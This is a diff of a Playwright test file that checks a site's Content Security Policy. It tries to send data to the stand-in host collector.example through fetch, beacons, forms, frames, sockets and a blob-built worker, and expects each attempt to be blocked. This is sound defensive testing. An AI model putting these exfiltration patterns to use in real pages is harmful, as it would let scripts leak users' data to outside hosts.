@@ -1,7 +1,20 @@
-import { expect, test } from 'playwright/test'
+import { expect, test, type Page } from 'playwright/test'
+import { ATTEMPTS } from '@/e2e/support/exfiltration'
 import { allPages, htmlOf } from '@/e2e/support/pages'
+import { reportViolations } from '@/e2e/support/violations'
 
 const ELSEWHERE = 'https://collector.example'
+// A document of the site that carries no policy of its own: there every attempt goes out, or the attempt proves nothing.
+const WITHOUT_POLICY = '/robots.txt'
+
+async function recordSent(page: Page): Promise<string[]> {
+  const sent: string[] = []
+  await page.context().route(`${ELSEWHERE}/**`, (route) => {
+    sent.push(route.request().url())
+    return route.abort()
+  })
+  return sent
+}
 
 test('every page carries the policy before anything else in its head', () => {
   for (const page of allPages()) {
@@ -9,110 +22,58 @@ test('every page carries the policy before anything else in its head', () => {
   }
 })
 
-test('a page loads nothing from elsewhere and breaks no rule of its own', async ({ page }) => {
-  test.setTimeout(180_000)
-  const complaints: string[] = []
-  page.on('request', (request) => {
-    if (!/^(http:\/\/localhost:|blob:|data:)/.test(request.url())) complaints.push(`request to ${request.url()}`)
-  })
-  page.on('console', (message) => {
-    if (message.type() === 'error') complaints.push(`${page.url()}: ${message.text()}`)
-  })
-  page.on('pageerror', (error) => complaints.push(`${page.url()}: ${error.message}`))
-  for (const path of allPages()) {
-    await page.goto(path)
-    await expect(page.locator('main[data-ready="true"]')).toBeVisible()
-  }
-  expect(complaints).toEqual([])
-})
-
-test('a script in the page could not send anything anywhere', async ({ page }) => {
-  const sent: string[] = []
-  await page.route(`${ELSEWHERE}/**`, (route) => {
-    sent.push(route.request().url())
-    return route.abort()
-  })
-  await page.goto('/tools/loan-calculator')
-  await expect(page.locator('main[data-ready="true"]')).toBeVisible()
-  const outcomes = await page.evaluate(async (target) => {
-    const settled = (attempt: Promise<unknown>) =>
-      attempt.then(
-        () => 'sent',
-        () => 'blocked',
-      )
-    const loaded = (element: HTMLElement) =>
-      new Promise<string>((resolve) => {
-        element.onload = () => resolve('sent')
-        element.onerror = () => resolve('blocked')
-        document.body.append(element)
-      })
-    const image = () => Object.assign(new Image(), { src: `${target}/image` })
-    const script = () => Object.assign(document.createElement('script'), { src: `${target}/script` })
-    const style = () => Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${target}/style` })
-    const socket = () =>
-      new Promise<string>((resolve) => {
-        try {
-          const opened = new WebSocket(target.replace('https', 'wss'))
-          opened.onopen = () => resolve('sent')
-          opened.onerror = () => resolve('blocked')
-        } catch {
-          resolve('blocked')
-        }
-      })
-    const evaluated = () => {
-      try {
-        return String(new Function('return "sent"')())
-      } catch {
-        return 'blocked'
-      }
-    }
-    return {
-      fetch: await settled(fetch(`${target}/fetch`, { mode: 'no-cors' })),
-      image: await loaded(image()),
-      script: await loaded(script()),
-      style: await loaded(style()),
-      socket: await socket(),
-      eval: evaluated(),
-    }
-  }, ELSEWHERE)
-  expect(outcomes).toEqual({
-    fetch: 'blocked',
-    image: 'blocked',
-    script: 'blocked',
-    style: 'blocked',
-    socket: 'blocked',
-    eval: 'blocked',
-  })
-  expect(sent).toEqual([])
-})
-
-for (const [way, directive] of [
-  ['beacon', 'connect-src'],
-  ['form', 'form-action'],
-  ['frame', 'default-src'],
-] as const) {
-  test(`a ${way} to elsewhere is blocked`, async ({ page }) => {
-    const sent: string[] = []
-    await page.route(`${ELSEWHERE}/**`, (route) => {
-      sent.push(route.request().url())
-      return route.abort()
+for (const colorScheme of ['light', 'dark'] as const) {
+  test(`no page in ${colorScheme} loads anything from elsewhere or breaks a rule of its own`, async ({ page }) => {
+    test.setTimeout(240_000)
+    const complaints: string[] = []
+    const violations = await reportViolations(page)
+    page.on('request', (request) => {
+      if (!/^(http:\/\/localhost:|blob:|data:)/.test(request.url())) complaints.push(`request to ${request.url()}`)
     })
+    page.on('console', (message) => {
+      if (message.type() === 'error') complaints.push(`${page.url()}: ${message.text()}`)
+    })
+    page.on('pageerror', (error) => complaints.push(`${page.url()}: ${error.message}`))
+    await page.emulateMedia({ colorScheme })
+    for (const path of allPages()) {
+      await page.goto(path)
+      await expect(page.locator('main[data-ready="true"]')).toBeVisible()
+    }
+    expect(complaints).toEqual([])
+    expect(violations).toEqual([])
+  })
+}
+
+for (const [name, { directive, control, run }] of Object.entries(ATTEMPTS)) {
+  test(`sending by ${name} is blocked`, async ({ page }) => {
+    const sent = await recordSent(page)
+    const violations = await reportViolations(page)
+    if (control) {
+      await page.goto(WITHOUT_POLICY)
+      await page.evaluate(run, ELSEWHERE)
+      await expect.poll(() => sent.length).toBeGreaterThan(0)
+    }
     await page.goto('/tools/loan-calculator')
     await expect(page.locator('main[data-ready="true"]')).toBeVisible()
-    const refused = page.waitForEvent('console', (message) => message.text().includes(directive))
-    await page.evaluate(
-      ([target, kind]) => {
-        const form = Object.assign(document.createElement('form'), { action: `${target}/form`, method: 'post' })
-        const frame = Object.assign(document.createElement('iframe'), { src: `${target}/frame` })
-        document.body.append(form)
-        if (kind === 'beacon') navigator.sendBeacon(`${target}/beacon`, 'x')
-        if (kind === 'form') form.submit()
-        if (kind === 'frame') document.body.append(frame)
-      },
-      [ELSEWHERE, way] as const,
-    )
-    await refused
-    expect(await page.evaluate(() => location.pathname)).toBe('/tools/loan-calculator')
+    sent.length = 0
+    await page.evaluate(run, ELSEWHERE)
+    await expect.poll(() => violations).toContain(directive)
+    expect(new URL(page.url()).pathname).toBe('/tools/loan-calculator')
     expect(sent).toEqual([])
   })
 }
+
+test('a worker made by a script in the page is bound by the page’s policy', async ({ page }) => {
+  const sent = await recordSent(page)
+  await page.goto('/tools/loan-calculator')
+  await expect(page.locator('main[data-ready="true"]')).toBeVisible()
+  const outcome = await page.evaluate((target) => {
+    const text = `fetch('${target}', { mode: 'no-cors' }).then(() => postMessage('sent'), () => postMessage('blocked'))`
+    return new Promise((resolve) => {
+      const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))
+      worker.onmessage = ({ data }) => resolve(data)
+    })
+  }, ELSEWHERE)
+  expect(outcome).toBe('blocked')
+  expect(sent).toEqual([])
+})
